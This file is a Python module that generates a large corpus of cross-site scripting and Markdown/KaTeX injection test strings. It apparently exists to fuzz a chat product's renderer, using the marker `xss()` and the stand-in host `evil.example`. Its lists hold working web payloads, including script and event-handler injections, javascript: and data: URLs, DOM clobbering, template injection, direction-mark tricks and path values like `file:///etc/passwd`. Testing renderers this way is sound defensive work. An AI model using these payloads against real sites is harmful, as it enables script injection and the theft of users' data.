"""Texts that would run a script, load something or leave the page if any place of the product took them for HTML.

Built from vectors, contexts of Markdown and encodings. What runs calls `xss()`, what loads asks `evil.example`. None
swallows what follows it, so that hundreds fit into one message.
"""

import html
from collections.abc import Iterator
from urllib.parse import quote

HOST = "evil.example"
CALL = "xss()"

ELEMENTS = [
    "<script>xss()</script>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0csrc=//evil.example/x.js></script>",
    "<script>xss()<!--",
    "<ScRiPt>xss()</sCrIpT>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "</script><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</title><svg onload=xss()>",
    "</style><img src=x onerror=xss()>",
    "<!--><img src=x onerror=xss()>-->",
    "<![CDATA[><img src=x onerror=xss()>]]>",
    "<img src=x onerror=xss()>",
    "<img src=x onerror='xss()'>",
    '<img src="x` `<script>xss()</script>"` `>',
    "<img/src=x/onerror=xss()>",
    "<img\nsrc=x\nonerror=xss()>",
    "<img src=x onerror\x0c=xss()>",
    "<img src=x:x onerror=&#120;ss()>",
    "<img src=x onerror=eval('x'+'ss()')>",
    "<img src=x oNeRrOr=xss`1`>",
    "<image src=x onerror=xss()>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/pixel.png 1x'>",
    "<img src=x lowsrc=//evil.example/low.png onerror=xss()>",
    "<picture><source srcset=//evil.example/p.png><img src=y></picture>",
    "<svg onload=xss()>",
    "<svg/onload=xss()//",
    "<svg><script>xss()</script></svg>",
    "<svg><script href=//evil.example/x.js></script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><set onbegin=xss() attributeName=x>",
    "<svg><a xlink:href='javascript:xss()'><text y=9>go</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss()></svg>#x'/></svg>",
    "<svg><image href=//evil.example/i.png></svg>",
    "<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=xss()>'>",
    "<svg><desc><table><style><img title='</style><img src=x onerror=xss()>'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss()&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=xss()></annotation-xml></math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:xss()'>go</maction></math>",
    "<math href='javascript:xss()'>go</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<template><img src=x onerror=xss()></template>",
    "<xmp><p title='</xmp><img src=x onerror=xss()>'>",
    "<iframe src='javascript:xss()'></iframe>",
    "<iframe srcdoc='<script>top.xss()</script>'></iframe>",
    "<iframe src=//evil.example/frame></iframe>",
    "<object data='javascript:xss()'></object>",
    "<object data=//evil.example/o.svg></object>",
    "<embed src=//evil.example/e.svg>",
    "<embed src='javascript:xss()'>",
    "<frameset onload=xss()>",
    "<body onload=xss()>",
    "<body onpageshow=xss()>",
    "<input autofocus onfocus=xss()>",
    "<textarea autofocus onfocus=xss()></textarea>",
    "<select autofocus onfocus=xss()></select>",
    "<button autofocus onfocus=xss()>go</button>",
    "<button formaction='javascript:xss()'>go</button>",
    "<form action='javascript:xss()'><input type=submit></form>",
    "<form action=//evil.example/f><input name=a autofocus></form>",
    "<isindex action=javascript:xss() type=image>",
    "<details open ontoggle=xss()>go</details>",
    "<dialog open onclose=xss()>go</dialog>",
    "<marquee onstart=xss()>go</marquee>",
    "<video src=x onerror=xss()></video>",
    "<video poster=//evil.example/v.png></video>",
    "<video><source onerror=xss()></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<track src=//evil.example/t.vtt>",
    "<a href='javascript:xss()'>go</a>",
    "<a href=//evil.example ping=//evil.example/ping>go</a>",
    "<a href='java&#9;script:xss()'>go</a>",
    "<area href='javascript:xss()'>",
    "<p onmouseover=xss()>go</p>",
    "<p onpointerenter=xss() style='position:fixed;inset:0'>go</p>",
    "<p style='animation:blink 1s' onanimationstart=xss()>go</p>",
    "<p tabindex=1 onfocus=xss()>go</p>",
    "<p contenteditable oninput=xss()>go</p>",
    "<p popover onbeforetoggle=xss()>go</p>",
    "<custom-element onclick=xss()>go</custom-element>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>xss()</script>'>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<link rel=prefetch href=//evil.example/p>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/s.css';</style>",
    "<style>*{background:url(//evil.example/b.png)}</style>",
    "<p style='background:url(//evil.example/b.png)'>go</p>",
    "<p style=\"background:image-set('//evil.example/b.png' 1x)\">go</p>",
    "<p style='width:expression(xss())'>go</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>all over</p>",
    "<form id=xssclobber><input name=parentNode></form>",
    "<img name=xssclobber><img id=cookie name=getElementById>",
    "<a id=xssclobber><a id=xssclobber name=url href=javascript:xss()>",
    "<form name=body><input name=firstChild></form>",
    "<div id=chat data-katex=//evil.example/k.js></div>",
    "<span class='math' id=messages>$x$</span>",
    '<script type=importmap>{"imports":{"chat":"//evil.example/x.js"}}</script>',
    "<script type=module>import '//evil.example/x.js'</script>",
    '<script type=speculationrules>{"prerender":[{"urls":["//evil.example"]}]}</script>',
]
"""HTML that acts where it is taken for HTML."""

BREAKERS = [
    '" onmouseover="xss()',
    "' onmouseover='xss()",
    '" autofocus onfocus="xss()" x="',
    "` onerror=xss()",
    '"><img src=x onerror=xss()>',
    "'><svg onload=xss()>",
    '"/><script>xss()</script>',
    "--><script>xss()</script>",
    "]]><script>xss()</script>",
    "</code></pre><img src=x onerror=xss()>",
    "</a><svg onload=xss()>",
    "</td></table><img src=x onerror=xss()>",
    '\\"><img src=x onerror=xss()>',
    "&quot;&gt;&lt;img src=x onerror=xss()&gt;",
]
"""What ends an attribute, a comment or an element, wherever a value is put into HTML."""

ADDRESSES = [
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "javascript&colon;xss()",
    "javascript&#58;xss()",
    "javascript&#x3A;xss()",
    "&#106;avascript:xss()",
    "&#x6A&#x61&#x76&#x61script:xss()",
    "java%0ascript:xss()",
    "java&Tab;script:xss()",
    "java&NewLine;script:xss()",
    "java\tscript:xss()",
    "\x01javascript:xss()",
    "\u00a0javascript:xss()",
    "\u200bjavascript:xss()",
    "\ufeffjavascript:xss()",
    "javascript\u2028:xss()",
    "javascript://evil.example/%0axss()",
    "javascript://%0d%0axss()",
    "javascript:/*--></title></style>*/xss()",
    "javascript:'<script>xss()</script>'",
    "jar:javascript:xss()!/",
    "view-source:javascript:xss()",
    "feed:javascript:xss()",
    "data:text/html,<script>xss()</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=xss()></svg>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>xss()</script>",
    "DATA:text/html,xss()",
    "vbscript:xss()",
    "VbScRiPt:xss()",
    "livescript:xss()",
    "mocha:xss()",
    "blob:null/xss",
    "filesystem:http://evil.example/x",
    "file:///etc/passwd",
    "ms-its:mhtml:file://x!xss()",
    "about:blank#xss()",
    "intent://evil.example#Intent;scheme=javascript;end",
    "//evil.example/%3Cscript%3Exss()%3C/script%3E",
    "/\\evil.example",
    "https:javascript:xss()",
    'http://evil.example/"onmouseover="xss()',
    "https://evil.example/'onmouseover='xss()",
    "https://evil.example/`onmouseover=`xss()",
    "https://user:pass@evil.example/<svg/onload=xss()>",
    "mailto:a@evil.example?body=<script>xss()</script>",
    "mailto:javascript:xss()",
]
"""Where a link, an image or an autolink may lead to."""

EXPRESSIONS = [
    "{{constructor.constructor('xss()')()}}",
    "{{ self.__init__.__globals__ }}{% for x in [] %}{% endfor %}",
    "${xss()}",
    "#{xss()}",
    "<%= xss() %>",
    "[[xss()]]",
    "{!xss()!}",
    "@{xss()}",
    "%{xss()}",
    "*{xss()}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('xss()')}}",
    "__proto__[xss]=xss()",
    "constructor.prototype.xss=1",
    "%3Cscript%3Exss()%3C/script%3E",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=xss()\\x3e",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "\u00bcscript\u00bexss()\u00bc/script\u00be",
    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "\u202e>tpircs/<()ssx>tpircs<\u202c",
    "\u2066<img src=x onerror=xss()>\u2069",
    "<\u0000script>xss()</script>",
    "<img src=x onerror\u2028=xss()>",
    "\ud7ff<svg\u0085onload=xss()>",
    "\U000e003cscript\U000e003exss()",
    "\x1b]8;;javascript:xss()\x07go\x1b]8;;\x07",
    '"}];xss();//',
    "');xss();//",
    "*/xss();/*",
    "\u2028xss()\u2029",
]
"""Templates, other alphabets, marks that turn the direction, what ends a JSON text or a script."""

FORMULAS = [
    r"\href{javascript:xss()}{x}",
    r"\url{javascript:xss()}",
    r"\htmlData{x=xss(), onclick=xss()}{x}",
    r"\htmlId{chat}{x}",
    r"\htmlClass{math}{x}",
    r"\htmlStyle{background:url(//evil.example/b.png)}{x}",
    r"\includegraphics[height=1em]{//evil.example/i.png}",
    r"\includegraphics{data:image/svg+xml,<svg onload=xss()>}",
    r"\text{<img src=x onerror=xss()>}",
    r"\unicode{x3c}script\unicode{x3e}",
    r"\color{red;background:url(//evil.example/c.png)}x",
    r"\textcolor{x' onmouseover='xss()}{x}",
    r"\rule{9999em}{9999em}",
    r"\def\x{\x\x}\x",
    r"\def\a#1{#1#1#1}\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}",
    r"\begin{array}{<script>xss()</script>}x\end{array}",
    r"\require{html}\href{javascript:xss()}{x}",
    r"\style{position:fixed}{x}\class{math}{x}\cssId{chat}{x}",
    r"\tag{<svg onload=xss()>}",
    r"</math><img src=x onerror=xss()>",
    r"\operatorname{<iframe src=javascript:xss()>}",
    r"\message{<script>xss()</script>}\newcommand{\b}{<b onclick=xss()>}\b",
]
"""What KaTeX might do."""

FENCES = [
    "html onclick=xss()",
    'html"onmouseover="xss()',
    '"><img src=x onerror=xss()>',
    "'><svg onload=xss()>",
    "<script>xss()</script>",
    "js`xss()",
    "python\x00<script>",
    "{.html onload=xss()}",
    "mermaid",
    "svg",
    "html",
    "math",
    "vega",
    "__proto__",
    "constructor",
    "../../etc/passwd",
    "&quot;onload=xss()",
    "javascript:xss()",
]
"""Info strings of code blocks."""

WRAPPERS = [
    "{}",
    "so **{}** it is",
    "> - {}",
    "| a |\n|---|\n| {} |",
    "## {}",
    "[{}](https://host.example)",
    "`{}`",
    "1. x\n   {}",
]
"""Places in Markdown where an element may stand."""


def corpus() -> list[str]:
    """Return all of them, each once."""
    return list(dict.fromkeys(_all()))


def lines() -> list[str]:
    """Return them as they stand where there is one line only."""
    return list(dict.fromkeys(" ".join(text.split()) for text in corpus()))


def message() -> str:
    """Return them as one text of Markdown."""
    return "".join(f"{text}\n\nx{number}x\n\n" for number, text in enumerate(corpus()))


def _all() -> Iterator[str]:
    for element in ELEMENTS:
        for wrapper in WRAPPERS[: 8 if element.startswith(("<img src=x onerror=xss", "<svg o", "<script>x")) else 3]:
            yield wrapper.format(element)
        yield html.escape(element)
    for element in (ELEMENTS[0], ELEMENTS[12], ELEMENTS[26]):
        yield html.escape(html.escape(element))
        yield "".join(f"&#{ord(char)};" for char in element)
        yield "".join(f"&#x{ord(char):X};" for char in element)
        yield quote(element)
        yield "".join(f"\\{char}" if char in "<>()'" else char for char in element)
    for breaker in BREAKERS:
        yield breaker
        yield f"[x](https://host.example '{breaker}')"
        yield f'[x](https://host.example "{breaker}")'
        yield f"![{breaker}](https://host.example/i.png)"
        yield f"[x](<https://host.example/{breaker}>)"
        yield f"<https://host.example/{breaker}>"
        yield f"| {breaker} |\n|:-{breaker}|\n| x |"
        yield f"~~~{breaker}\n{breaker}\n~~~"
    for address in ADDRESSES:
        yield f"[x]({address})"
        yield f"[x](<{address}>)"
        yield f"![x]({address})"
        yield f"<{address}>"
        yield f"[x]\n\n[x]: {address}"
    for expression in EXPRESSIONS:
        yield expression
        yield f"**{expression}** [{expression}](https://host.example)"
    for formula in FORMULAS:
        yield f"${formula}$"
        yield f"$$\n{formula}\n$$"
        yield f"\\({formula}\\)"
    for info in FENCES:
        yield f"~~~{info}\n<img src=x onerror={CALL}>\n~~~"
        yield f"```{info.replace('`', '')}\n</code></pre><script>{CALL}</script>\n```"
